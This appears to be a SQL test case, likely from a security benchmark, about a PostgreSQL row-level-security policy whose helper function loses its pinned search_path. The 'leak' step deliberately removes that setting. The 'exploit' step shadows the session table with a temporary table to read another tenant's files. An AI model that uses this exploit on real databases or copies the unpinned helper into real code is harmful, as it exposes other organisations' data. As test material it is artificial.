-- The policy's helper reads a table without its schema as the caller, who can put a temporary table before it.
-- object: public.files
-- object: public.my_org()
-- base: projects
--- setup
CREATE TABLE api_sessions (token text PRIMARY KEY, org_id uuid NOT NULL REFERENCES orgs);
ALTER TABLE api_sessions ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY org ON api_sessions USING (org_id = (SELECT current_setting('app.org_id')::uuid));
GRANT SELECT ON api_sessions TO {app};
RESET ROLE;
INSERT INTO api_sessions VALUES ('{A}', '{A}'), ('{B}', '{B}');
SET ROLE {owner};
CREATE FUNCTION my_org() RETURNS uuid LANGUAGE plpgsql STABLE SET search_path = public, pg_temp AS $$
BEGIN RETURN (SELECT org_id FROM api_sessions WHERE token = current_setting('app.org_id')); END $$;
DROP POLICY org ON files;
CREATE POLICY org ON files USING (org_id = (SELECT my_org()));
--- leak
ALTER FUNCTION my_org() RESET search_path;
--- exploit
CREATE TEMP TABLE api_sessions (token text, org_id uuid);
INSERT INTO api_sessions VALUES ('{A}', '{B}');
SELECT name FROM files WHERE org_id = '{B}';
